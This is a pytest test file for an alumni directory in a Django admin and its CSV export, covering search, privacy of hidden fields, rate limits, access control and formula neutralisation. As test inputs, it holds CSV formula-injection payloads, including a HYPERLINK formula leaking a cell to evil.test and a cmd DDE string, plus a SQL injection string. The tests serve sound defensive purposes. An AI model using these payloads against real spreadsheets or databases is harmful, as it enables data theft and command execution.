"""The editors' directory in the admin and its CSV export (issue 5, item 5)."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.http import StreamingHttpResponse
from django.urls import reverse

pytestmark = pytest.mark.django_db

INDEX = "alumni_partner_directory:index"
EXPORT = "alumni_partner_directory:export"

HOSTILE_NAMES = [
    ('=HYPERLINK("http://evil.test/?"&A1,"Click")', "Hyperlink"),
    ("+cmd|' /C calc'!A0", "Plus"),
    ("@SUM(1)", "At"),
    ("-2+3", "Minus"),
    ("\t=1+1", "Tab"),
]


@pytest.fixture
def people(make_alumnus):
    amina = make_alumnus(
        "Amina",
        "Diallo",
        employer="Hidden Employer SA",
        show_employer=False,
        job_title="Ingénieure",
        city="Dakar",
        country="SN",
        accepts_partner_contact=True,
    )
    amina.set_mailing_consent(True)
    amina.save()
    bob = make_alumnus("Bob", "Martin", employer="Acme Corp", city="Lyon")
    unlisted = make_alumnus("Ursula", "Unlisted", employer="Acme Corp", listed=False)
    return {"amina": amina, "bob": bob, "unlisted": unlisted}


def export_rows(response) -> list[list[str]]:
    assert isinstance(response, StreamingHttpResponse)
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))


# ---------------------------------------------------------------------------
# The directory in the admin
# ---------------------------------------------------------------------------


def test_editor_sees_listed_alumni_as_members_see_them(editor_client, people):
    response = editor_client.get(reverse(INDEX))
    assert response.status_code == 200
    body = response.content.decode()
    assert "Amina Diallo" in body and "Bob Martin" in body
    assert "Ursula" not in body  # unlisted: never shown, nor counted
    assert response.context["paginator"].count == 2
    assert "Hidden Employer SA" not in body
    assert "Acme Corp" in body
    assert "@alumni.test" not in body
    assert reverse(EXPORT) in body


def test_editor_searches_with_the_public_criteria(editor_client, people):
    found = editor_client.get(reverse(INDEX), {"q": "acme"})
    assert [row["name"] for row in found.context["rows"]] == ["Bob Martin"]
    # A hidden employer does not find its owner.
    hidden = editor_client.get(reverse(INDEX), {"q": "hidden employer"})
    assert hidden.context["paginator"].count == 0
    by_city = editor_client.get(reverse(INDEX), {"city": "dakar"})
    assert [row["name"] for row in by_city.context["rows"]] == ["Amina Diallo"]
    # The export link keeps the search.
    assert "q=acme" in found.context["export_url"]


@pytest.mark.parametrize(
    "query",
    [
        {"year_from": "abc"},
        {"year_from": "2020", "year_to": "1990"},
        {"q": "x" * 10000},
        {"q": "'; DROP TABLE auth_user; --"},
        {"q": ".*[(?"},
        {"country": "ZZ"},
        {"degree": "wizard"},
        {"page": "-1"},
        {"page": "99999"},
    ],
)
def test_malformed_searches_never_fail(editor_client, people, query):
    response = editor_client.get(reverse(INDEX), query)
    assert response.status_code == 200
    export = editor_client.get(reverse(EXPORT), query)
    assert export.status_code == 200
    export_rows(export)


def test_the_list_is_paginated(editor_client, make_alumnus, settings):
    settings.ALUMNI_PARTNER_ALUMNI_ADMIN_PER_PAGE = 2
    for n in range(5):
        make_alumnus(f"P{n}", f"Person{n}")
    first = editor_client.get(reverse(INDEX))
    assert len(first.context["rows"]) == 2
    assert "page=2" in first.content.decode()
    last = editor_client.get(reverse(INDEX), {"page": "3"})
    assert len(last.context["rows"]) == 1


# ---------------------------------------------------------------------------
# The export
# ---------------------------------------------------------------------------


def test_export_streams_the_search_with_visible_fields_only(editor_client, people):
    response = editor_client.get(reverse(EXPORT))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="')
    rows = export_rows(response)
    header, *lines = rows
    assert len(header) == len(lines[0])
    by_name = {line[0]: dict(zip(header, line, strict=True)) for line in lines}
    assert set(by_name) == {"Amina Diallo", "Bob Martin"}  # listed only
    flat = "\n".join(",".join(line) for line in rows)
    assert "Hidden Employer SA" not in flat
    assert "@alumni.test" not in flat  # no e-mail addresses
    assert "Acme Corp" in by_name["Bob Martin"].values()
    amina = by_name["Amina Diallo"]
    assert "Dakar" in amina.values() and "Ingénieure" in amina.values()
    # Consent flags: contact, mailings, and the consent's date.
    *_fields, contact, mailings, since = amina.values()
    assert contact in ("yes", "oui") and mailings in ("yes", "oui")
    assert re.fullmatch(r"\d{4}-\d{2}-\d{2}", since)
    *_fields, contact, mailings, since = by_name["Bob Martin"].values()
    assert (contact, mailings, since) in (("no", "no", ""), ("non", "non", ""))


def test_export_of_a_search_holds_only_its_results(editor_client, people):
    rows = export_rows(editor_client.get(reverse(EXPORT), {"q": "acme"}))
    assert [line[0] for line in rows[1:]] == ["Bob Martin"]


def test_export_neutralises_formulas(editor_client, make_alumnus):
    for first, last in HOSTILE_NAMES:
        make_alumnus(first, last, employer="=cmd|' /C calc'!A0", city="@evil")
    rows = export_rows(editor_client.get(reverse(EXPORT)))
    for line in rows[1:]:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), line
    names = {line[0] for line in rows[1:]}
    assert "'" + '=HYPERLINK("http://evil.test/?"&A1,"Click") Hyperlink' in names
    assert "'+cmd|' /C calc'!A0 Plus" in names
    assert "'@SUM(1) At" in names
    assert "'-2+3 Minus" in names
    # The name is trimmed first (leading tab gone), then neutralised.
    assert "'=1+1 Tab" in names
    assert all("'=cmd|' /C calc'!A0" in line for line in rows[1:])


def test_export_is_rate_limited_per_account(editor_client, people, settings):
    settings.ALUMNI_PARTNER_RATE_LIMITS = {"directory_export": (2, 3600)}
    for _n in range(2):
        assert editor_client.get(reverse(EXPORT)).status_code == 200
    refused = editor_client.get(reverse(EXPORT))
    assert refused.status_code == 429
    assert int(refused["Retry-After"]) > 0
    assert "text/csv" not in refused["Content-Type"]
    assert refused.content.decode().count("help-warning") == 1


def test_the_admin_directory_is_rate_limited_too(editor_client, people, settings):
    settings.ALUMNI_PARTNER_RATE_LIMITS = {"directory_search": (1, 60)}
    assert editor_client.get(reverse(INDEX)).status_code == 200
    assert editor_client.get(reverse(INDEX)).status_code == 429


def test_export_query_count_does_not_grow_with_profiles(editor_client, make_alumnus):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    make_alumnus("One", "Person", skills=["Python"], languages=["fr"])

    def count() -> int:
        with CaptureQueriesContext(connection) as queries:
            export_rows(editor_client.get(reverse(EXPORT)))
        return len(queries)

    one = count()
    for n in range(6):
        make_alumnus(f"P{n}", f"Person{n}", skills=["Python", "SQL"], languages=["en"])
    assert count() == one


# ---------------------------------------------------------------------------
# Who may
# ---------------------------------------------------------------------------


def test_partner_is_refused_the_admin_directory_and_export(partner_client, people):
    for name in (INDEX, EXPORT):
        response = partner_client.get(reverse(name))
        assert response.status_code == 403 or (
            response.status_code == 302 and response.url == reverse("wagtailadmin_home")
        ), name
        assert not isinstance(response, StreamingHttpResponse)


def test_alumnus_is_sent_to_the_login_page(client, alumnus):
    client.force_login(alumnus)
    for name in (INDEX, EXPORT):
        response = client.get(reverse(name))
        assert response.status_code == 302 and "login" in response.url
